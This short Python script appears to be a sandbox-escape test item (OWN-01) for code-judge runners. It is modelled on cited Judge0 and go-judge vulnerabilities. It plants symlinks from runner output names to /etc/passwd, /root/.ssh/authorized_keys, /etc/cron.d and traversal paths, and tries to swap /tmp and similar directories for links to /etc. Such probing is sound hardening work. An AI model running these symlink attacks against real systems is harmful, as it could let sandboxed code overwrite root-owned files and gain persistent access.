# OWN-01 Judge0 CVE-2024-28185, CVE-2024-28189, go-judge #176, Compiler Explorer #6026: links in the box under every name that a runner may write, chown or chmod as root. HELD when planted; the oracle looks whether anything outside has changed.
import os
names = ["stdout", "stderr", "answer", "stdin", "metadata", "run", "evaluator", "output", "source.py", "script.py", "cmd", "box", "result.json", ".podium-x", "log.jsonl", "passwd", "group"]
targets = ["/etc/passwd", "/etc/cron.d/own-01", "/root/.ssh/authorized_keys", "/", "..", "/proc/1/root/etc/own-01", "../../../../etc/own-01"]
for d in (".", "/tmp", "/dev/shm"):
    for i, n in enumerate(names):
        try: os.symlink(targets[i % len(targets)], os.path.join(d, n))
        except OSError: pass
for i, t in enumerate(targets):
    try: os.symlink(t, "link-%d" % i); os.chmod("link-%d" % i, 0o777)
    except OSError: pass
bad = []
for p in ("/scratch", "/tmp", "/dev/shm"):                       # the box itself replaced by a link
    try: os.rename(p, p + "-old"); os.symlink("/etc", p); bad.append("replaced " + p)
    except OSError: pass
    try: os.rmdir(p); os.symlink("/etc", p); bad.append("replaced " + p)
    except OSError: pass
print("OWN-01", "BROKEN " + "; ".join(bad) if bad else "HELD")
